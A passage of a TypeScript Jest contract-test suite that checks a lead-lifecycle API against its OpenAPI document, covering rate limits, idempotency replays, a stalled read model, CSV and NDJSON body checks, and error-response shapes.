    cases.push(readModel ? projectionBehindCase(op, spec) : single(op, 'the store is unreachable', 503, spec.prepare, undefined, 'unavailable'));
  }
  return cases;
}

/**
 * On the app with a tiny rate limit: the same credential again until it is refused. The limit is per
 * credential, so the platform key (key management) and a tenant's admin key each run out on their own.
 */
function rateLimitedCase(op: Operation): Case {
  return {
    name: 'one request too many for the credential',
    app: 'limited',
    async run(api) {
      const headers = { Authorization: op.path.startsWith('/v1/admin/') ? `Bearer ${TEST_PLATFORM_KEY}` : `Bearer ${await api.app.adminKey()}` };
      for (let attempt = 0; attempt <= LIMITED_PER_MINUTE; attempt++) {
        const answer = await api.send(op.method, pathOf(op, {}), { headers });
        if (answer.status === 429) {
          const problems = /^\d+$/.test(String(answer.headers['retry-after'])) ? [] : [`Retry-After is ${answer.headers['retry-after']}`];
          return [{ label: 'rate limited', answer, expected: 429, problems }];
        }
      }
      return [{ label: 'rate limited', answer: await api.send(op.method, pathOf(op, {}), { headers }), expected: 429 }];
    },
  };
}

/** The same key and body again: the first answer, replayed, and nothing appended. */
function replayCase(op: Operation, spec: OperationSpec): Case {
  return {
    name: 'a retry with the same Idempotency-Key and body',
    app: 'main',
    async run(api) {
      const req = amend(await spec.prepare(api), { headers: { 'Idempotency-Key': `retry-${randomUUID()}` } });
      const expected = expectedSuccess(op, req);
      const first = await sendReq(api, op, req);
      const head = await api.head();
      const again = await sendReq(api, op, req);
      const problems = [
        ...(again.text === first.text ? [] : [`the replay answered ${again.text}, the first answer was ${first.text}`]),
        ...(again.headers['idempotent-replayed'] === 'true' ? [] : ['the replay has no "Idempotent-Replayed: true" header']),
        ...(first.headers['idempotent-replayed'] === undefined ? [] : ['the first answer says it is a replay']),
        ...((await api.head()) === head ? [] : ['the replay appended events']),
      ];
      return [
        { label: 'first answer', answer: first, expected },
        { label: 'replayed answer', answer: again, expected, problems },
      ];
    },
  };
}

/** The same key with another body: 422, nothing appended. */
function reuseCase(op: Operation, spec: OperationSpec, vary: (req: Req) => Req): Case {
  return {
    name: 'the Idempotency-Key again with another body',
    app: 'main',
    async run(api) {
      const req = amend(await spec.prepare(api), { headers: { 'Idempotency-Key': `reuse-${randomUUID()}` } });
      const first = await sendReq(api, op, req);
      const head = await api.head();
      const reused = await sendReq(api, op, vary(req));
      const problems = (await api.head()) === head ? [] : ['the refused request appended events'];
      return [
        { label: 'first answer', answer: first, expected: expectedSuccess(op, req) },
        { label: 'same key, other body', answer: reused, expected: 422, problems },
      ];
    },
  };
}

/** A read model that cannot catch up: the query waits READ_WAIT_MAX_MS for `minPosition`, then answers 503. */
function projectionBehindCase(op: Operation, spec: OperationSpec): Case {
  return {
    name: 'minPosition of a write the read model cannot reach',
    app: 'faulty',
    async run(api) {
      const req = await spec.prepare(api);
      api.faults!.fault = 'processors-stalled';
      try {
        const { position } = await api.capture();
        return [{ label: 'projection behind', answer: await sendReq(api, op, amend(req, { query: { minPosition: position } })), expected: 503 }];
      } finally {
        api.faults!.fault = 'none';
      }
    },
  };
}

// ---------------------------------------------------------------------------------------------------
// Checks of the answer bodies beyond their schema
// ---------------------------------------------------------------------------------------------------

const startsWithFormula = (cell: string) => cell.length > 0 && FORMULA_TRIGGERS.includes(cell[0]);

const validator = new OpenApiAnswerValidator({
  'application/x-ndjson': (text, media, v) => {
    const lineSchema = (media as Record<string, unknown>)['x-line-schema'] as OpenAPIV3.SchemaObject | undefined;
    if (!lineSchema) return ['no x-line-schema documents the lines'];
    if (text.length && !text.endsWith('\n')) return ['the last line does not end with \\n'];
    const validate = v.validator(lineSchema, true);
    return text
      .split('\n')
      .slice(0, -1)
      .flatMap((line, i) => {
        try {
          return validate(JSON.parse(line)) ? [] : [`line ${i + 1}: ${v.errorsText(validate)}`];
        } catch {
          return [`line ${i + 1} is not JSON`];
        }
      });
  },
  'text/csv': (text) => {
    let records: string[][];
    try {
      records = parseCsv(text);
    } catch (error) {
      return [`not RFC 4180 CSV: ${(error as Error).message}`];
    }
    const [header, ...rows] = records;
    return [
      ...(JSON.stringify(header) === JSON.stringify(CSV_COLUMNS) ? [] : [`header ${JSON.stringify(header)}`]),
      ...(rows.length ? [] : ['no rows']),
      ...rows.flatMap((row, i) => [
        ...(row.length === CSV_COLUMNS.length ? [] : [`row ${i + 1} has ${row.length} cells`]),
        ...row.filter(startsWithFormula).map((cell) => `row ${i + 1} has a cell a spreadsheet would run: ${JSON.stringify(cell)}`),
      ]),
    ];
  },
});

/** Beyond the schema: an error answer repeats its status and names it (upper snake case). */
function errorShapeProblems(answer: RawAnswer): string[] {
  if (answer.status < 400) return [];
  try {
    const body = JSON.parse(answer.text);
    return [
      ...(body.statusCode === answer.status ? [] : [`statusCode ${body.statusCode} for status ${answer.status}`]),
      ...(body.error === HttpStatus[answer.status] ? [] : [`error "${body.error}", expected "${HttpStatus[answer.status]}"`]),
    ];
  } catch {
    return [];
  }
}

// ---------------------------------------------------------------------------------------------------
// The apps and the document
// ---------------------------------------------------------------------------------------------------

const METHODS = ['get', 'put', 'post', 'delete', 'options', 'head', 'patch', 'trace'] as const;

/** RATE_LIMIT_PER_MINUTE of the app that answers 429. */
const LIMITED_PER_MINUTE = 3;

function operationsOf(raw: OpenAPIV3.Document, resolved: OpenAPIV3.Document): Operation[] {
  return Object.entries(raw.paths).flatMap(([path, item]) =>
    METHODS.filter((m) => item?.[m]).map((method) => ({
      key: `${method.toUpperCase()} ${path}`,
      method,
      path,
      raw: item![method]!,
      resolved: resolved.paths[path]![method]!,
    })),
  );
}

/** swagger-parser, spectral and openapi-typescript on the document, in a process of their own. */
function judge(document: OpenAPIV3.Document): OpenApiVerdict {
  const dir = mkdtempSync(join(tmpdir(), 'lead-lifecycle-openapi-'));
  const input = join(dir, 'openapi.json');
  const output = join(dir, 'verdict.json');
  writeFileSync(input, JSON.stringify(document));
  const run = spawnSync(
    process.execPath,
    ['-r', 'ts-node/register/transpile-only', '-r', 'tsconfig-paths/register', join(__dirname, '../support/openapi-tools.cli.ts'), input, output],
    { env: { ...process.env, TS_NODE_TRANSPILE_ONLY: 'true' }, encoding: 'utf8', timeout: 120_000 },
  );
  if (run.status !== 0) throw new Error(`openapi-tools.cli failed (${run.status ?? run.signal}): ${run.stderr}`);
  const verdict = JSON.parse(readFileSync(output, 'utf8')) as OpenApiVerdict;
  removeDataDir(dir);
  return verdict;
}

describe('the API contract (OpenAPI document)', () => {
  let main: Api;
  let faulty: Api;
  let limited: Api;
  let raw: OpenAPIV3.Document;
  let resolved: OpenAPIV3.Document;
  let operations: Operation[];
  let verdict: OpenApiVerdict;
  const warn = console.warn;

  beforeAll(async () => {
    // The faulty app's processors report the injected faults while they retry; nothing else is muted.
    jest.spyOn(console, 'warn').mockImplementation((...args: unknown[]) => {
      if (!args.some((a) => String(a).includes('injected'))) warn(...args);
    });
    main = new Api(await startTestApp({ module: { lifecycleConfig: WITH_HOST_STAGE } }));
    const dataDir = mkdtempSync(join(tmpdir(), 'lead-lifecycle-contract-faults-'));
    const env = { DATA_DIR: dataDir, SQLITE_DURABILITY: 'normal', READ_WAIT_MAX_MS: '300' };
    const keyStore = new SqliteKeyStore(join(dataDir, 'keys.sqlite'));
    const faults = new FaultInjectingEventStore(createEventStore(EngineConfig.fromEnv(env), keyStore));
    faulty = new Api(await startTestApp({ dataDir, env, module: { eventStore: faults, keyStore, lifecycleConfig: WITH_HOST_STAGE } }), faults);
    limited = new Api(await startTestApp({ env: { RATE_LIMIT_PER_MINUTE: String(LIMITED_PER_MINUTE) } }));

    const answer = await main.send('get', '/docs/openapi.json');
    expect(answer.status).toBe(200);
    raw = JSON.parse(answer.text);
    verdict = judge(raw);
    resolved = verdict.dereferenced as OpenAPIV3.Document;
    operations = operationsOf(raw, resolved);
  });

  afterAll(async () => {
    for (const api of [main, faulty, limited]) {
      if (!api) continue;
      await api.app.close();
      removeDataDir(api.app.dataDir);
    }
    jest.restoreAllMocks();
  });

  describe('the document', () => {
    it('is a valid OpenAPI 3 document (swagger-parser)', () => {
      expect(verdict.invalid).toBeNull();
      expect(raw.openapi).toMatch(/^3\./);
    });

    /** Warnings of spectral:oas left on purpose, by rule code, with the reason. None today. */
    const DELIBERATE_WARNINGS: Record<string, string> = {};

    it('passes spectral:oas with no error, and every warning left is deliberate', () => {
      const show = (r: OpenApiVerdict['lint'][number]) => `${r.code} at ${r.path}: ${r.message}`;
      expect(verdict.lint.filter((r) => r.severity === 0).map(show)).toEqual([]);
      expect(verdict.lint.filter((r) => r.severity === 1 && !(r.code in DELIBERATE_WARNINGS)).map(show)).toEqual([]);
    });

    it('gives a generated client (openapi-typescript) a concrete type for every answer of every operation', () => {
      const file = ts.createSourceFile('api.d.ts', verdict.types, ts.ScriptTarget.ES2022, true);
      const members = (node: ts.Node | undefined): Map<string, ts.TypeNode> => {
        const out = new Map<string, ts.TypeNode>();
        const list = node && (ts.isInterfaceDeclaration(node) || ts.isTypeLiteralNode(node)) ? node.members : [];
        for (const m of list) if (ts.isPropertySignature(m) && m.type) out.set(m.name.getText(file).replace(/^"|"$/g, ''), m.type);
        return out;
      };
      const top = (name: string) => file.statements.find((s): s is ts.InterfaceDeclaration => ts.isInterfaceDeclaration(s) && s.name.text === name);
      const schemas = members(members(top('components')).get('schemas'));
      const emptyOrOpaque = (type: ts.TypeNode) => /^(never|unknown|any|Record<string, never>)$/.test(type.getText(file).replace(/\s+/g, ' '));
      const problems: string[] = [];
      for (const [name, type] of schemas) if (emptyOrOpaque(type)) problems.push(`components.schemas.${name} is ${type.getText(file)}`);
      const ops = members(top('operations'));
      for (const op of operations) {
        const id = op.raw.operationId!;
        const responses = members(members(ops.get(id)).get('responses'));
        if (!ops.has(id)) problems.push(`${op.key}: no operations["${id}"]`);
        // 204 No Content has no body by definition.
        for (const status of Object.keys(op.raw.responses ?? {}).filter((s) => s !== '204')) {
          const content = members(responses.get(status)).get('content');
          if (!content || emptyOrOpaque(content)) {
            problems.push(`${op.key} ${status}: content is ${content?.getText(file) ?? 'missing'}`);
            continue;
          }
          for (const [media, type] of members(content)) {
            const ref = /^components\["schemas"\]\["(\w+)"\]$/.exec(type.getText(file));
            if (emptyOrOpaque(type) || (ref && (!schemas.has(ref[1]) || emptyOrOpaque(schemas.get(ref[1])!)))) problems.push(`${op.key} ${status} ${media}: ${type.getText(file)}`);
          }
          if (members(content).size === 0) problems.push(`${op.key} ${status}: no media type`);
        }
      }
      expect(problems).toEqual([]);
    });

    it('gives every operation a unique id, a summary, a description and a defined tag', () => {
      const ids = operations.map((op) => op.raw.operationId);
      expect(ids.every((id) => typeof id === 'string' && /^[a-z][A-Za-z]*_[a-z][A-Za-z]*$/.test(id))).toBe(true);
      expect(new Set(ids).size).toBe(ids.length);
      const tags = new Set((raw.tags ?? []).map((t) => t.name));
      for (const op of operations) {
        expect({ op: op.key, summary: Boolean(op.raw.summary?.trim()), description: Boolean(op.raw.description?.trim()) }).toEqual({ op: op.key, summary: true, description: true });
        expect({ op: op.key, tags: (op.raw.tags ?? []).length > 0 && (op.raw.tags ?? []).every((t) => tags.has(t)) }).toEqual({ op: op.key, tags: true });
      }
    });

    it('documents the context headers on every /v1 operation, Idempotency-Key and 422 on every POST, and uuid ids', () => {
      const problems: string[] = [];
      for (const op of operations) {
        const params = parameters(op);
        const names = (where: string) => params.filter((p) => p.in === where).map((p) => p.name);
        // Key management reads no request context: the platform key belongs to no tenant.
        if (op.path.startsWith('/v1/') && !op.path.startsWith('/v1/admin/')) {
          for (const header of ['X-Tenant-Id', 'X-Actor', 'X-Correlation-Id']) if (!names('header').includes(header)) problems.push(`${op.key}: no ${header}`);
        }
        // Key creation is never replayed: its answer holds the secret, which is stored only as a hash.
        if (op.method === 'post' && op.path !== '/v1/admin/api-keys') {
          if (!names('header').includes('Idempotency-Key')) problems.push(`${op.key}: no Idempotency-Key`);
          for (const status of [413, 415, 422]) if (!documents(op, status)) problems.push(`${op.key}: no ${status}`);
        }
        for (const p of params.filter((p) => p.in === 'path' && p.name === 'id')) {
          if ((p.schema as OpenAPIV3.SchemaObject)?.format !== 'uuid') problems.push(`${op.key}: path parameter ${p.name} has no uuid format`);
        }
      }
      expect(problems).toEqual([]);
    });

    it('gives every time a date-time format (parameters, bodies, answers) and every closed choice of a query an enum', () => {
      const problems: string[] = [];
      const isTime = (name: string) => /^(asOf|from|to)$|At$/.test(name);
      const CHOICES = ['format', 'asOfTime', 'groupBy', 'sort', 'stage', 'temperature', 'channel'];
      const walk = (where: string, schema: OpenAPIV3.SchemaObject | undefined, depth = 0) => {
        if (!schema || depth > 8) return;
        for (const [name, prop] of Object.entries(schema.properties ?? {}) as Array<[string, OpenAPIV3.SchemaObject]>) {
          if (isTime(name) && prop.format !== 'date-time') problems.push(`${where}.${name} has no date-time format`);
          walk(`${where}.${name}`, prop, depth + 1);
        }
        const items = (schema as OpenAPIV3.ArraySchemaObject).items;
        for (const part of [...(schema.allOf ?? []), ...(items ? [items] : [])]) walk(where, part as OpenAPIV3.SchemaObject, depth + 1);
      };
      for (const op of operations) {
        const params = (op.resolved.parameters ?? []) as OpenAPIV3.ParameterObject[];
        for (const p of params.filter((p) => p.in === 'query')) {
          const schema = p.schema as OpenAPIV3.SchemaObject;
          if (isTime(p.name) && schema.format !== 'date-time') problems.push(`${op.key} query ${p.name} has no date-time format`);
          if (CHOICES.includes(p.name) && !schema.enum) problems.push(`${op.key} query ${p.name} has no enum`);
        }
        walk(`${op.key} body`, (op.resolved.requestBody as OpenAPIV3.RequestBodyObject | undefined)?.content?.['application/json']?.schema as OpenAPIV3.SchemaObject);
        for (const [status, response] of Object.entries(op.resolved.responses ?? {})) {
          walk(`${op.key} ${status}`, (response as OpenAPIV3.ResponseObject).content?.['application/json']?.schema as OpenAPIV3.SchemaObject);
        }
      }
      expect(problems).toEqual([]);
    });

    it('documents a success answer with a schema for every operation, and every error with the one error schema', () => {
      const problems: string[] = [];
      for (const op of operations) {
        if (successStatuses(op).length === 0) problems.push(`${op.key}: no 2xx`);
        for (const [status, response] of Object.entries(op.raw.responses ?? {}) as Array<[string, OpenAPIV3.ResponseObject]>) {
          const content = response.content ?? {};
          if (!Object.keys(content).length && status !== '204') problems.push(`${op.key} ${status}: no content`);
          for (const [media, body] of Object.entries(content)) {
            const ref = (body.schema as OpenAPIV3.ReferenceObject | undefined)?.$ref;
            if (Number(status) >= 400 && (media !== 'application/json' || ref !== '#/components/schemas/ErrorResponseDto')) {
              problems.push(`${op.key} ${status}: ${media} ${ref ?? 'inline'} instead of ErrorResponseDto`);
            }
            if (!body.schema) problems.push(`${op.key} ${status} ${media}: no schema`);
          }
        }
      }
      expect(problems).toEqual([]);
    });
  });

  describe('every operation answers as documented', () => {
    it('has cases for every operation of the document, and none for an operation it does not have', () => {
      const documented = operations.map((op) => op.key).sort();
      expect({ withoutCases: documented.filter((key) => !(key in SPECS)) }).toEqual({ withoutCases: [] });
      expect({ notInTheDocument: Object.keys(SPECS).filter((key) => !documented.includes(key)).sort() }).toEqual({ notInTheDocument: [] });
    });

    it.each(Object.keys(SPECS))('%s', async (key) => {
      const op = operations.find((o) => o.key === key);
      if (!op) throw new Error(`${key} is not in the document`);
      const spec = SPECS[key];
      const failures: string[] = [];
      const exercised = new Set<number>();
      for (const c of casesOf(op, spec)) {
        let exchanges: Exchange[];
        try {
          exchanges = await c.run(c.app === 'main' ? main : c.app === 'limited' ? limited : faulty);
        } catch (error) {
          failures.push(`${c.name}: ${(error as Error).message}`);
          continue;
        }
        for (const x of exchanges) {
          exercised.add(x.expected);
          const where = `${c.name}${exchanges.length > 1 ? ` (${x.label})` : ''}`;
          if (x.answer.status !== x.expected) failures.push(`${where}: expected ${x.expected}, got ${x.answer.status} ${x.answer.text.slice(0, 300)}`);
          for (const p of [...validator.check(op.resolved, x.answer), ...errorShapeProblems(x.answer), ...(x.problems ?? [])]) failures.push(`${where}: ${p}`);
        }
      }
      const notExercised = Object.keys(spec.notExercised ?? {}).map(Number);
      for (const status of Object.keys(op.raw.responses ?? {}).map(Number)) {
        if (!exercised.has(status) && !notExercised.includes(status)) failures.push(`documented ${status} is neither provoked nor listed as not exercised`);
      }
      for (const status of notExercised) {
        if (!documents(op, status)) failures.push(`${status} is listed as not exercised but is not documented`);
        if (exercised.has(status)) failures.push(`${status} is listed as not exercised but a case provokes it`);
      }
      expect(failures).toEqual([]);
    });
  });

  it('answers an unknown route and a wrong method with the one error schema', async () => {
    const schema = resolved.components!.schemas!.ErrorResponseDto as OpenAPIV3.SchemaObject;
    const validate = validator.validator(schema, true);
    const problems: string[] = [];
    for (const [method, path, status, code] of [
      ['get', '/v1/no-such-route', 404, 'ROUTE_NOT_FOUND'],
      ['post', '/v1/leads/not-a-route/at-all', 404, 'ROUTE_NOT_FOUND'],
      ['delete', `/v1/leads/${randomUUID()}`, 405, 'METHOD_NOT_ALLOWED'],
      ['put', '/v1/leads', 405, 'METHOD_NOT_ALLOWED'],
    ] as const) {
      const answer = await main.send(method, path);
      let body: unknown;
      try {
        body = JSON.parse(answer.text);
      } catch {
        body = answer.text;
      }
      if (answer.status !== status) problems.push(`${method} ${path}: ${answer.status}, expected ${status}`);
      if (!validate(body)) problems.push(`${method} ${path}: ${validator.errorsText(validate)}`);
      if ((body as { code?: string })?.code !== code) problems.push(`${method} ${path}: code ${(body as { code?: string })?.code}, expected ${code}`);
      problems.push(...errorShapeProblems(answer).map((p) => `${method} ${path}: ${p}`));
    }
    expect(problems).toEqual([]);
  });
});
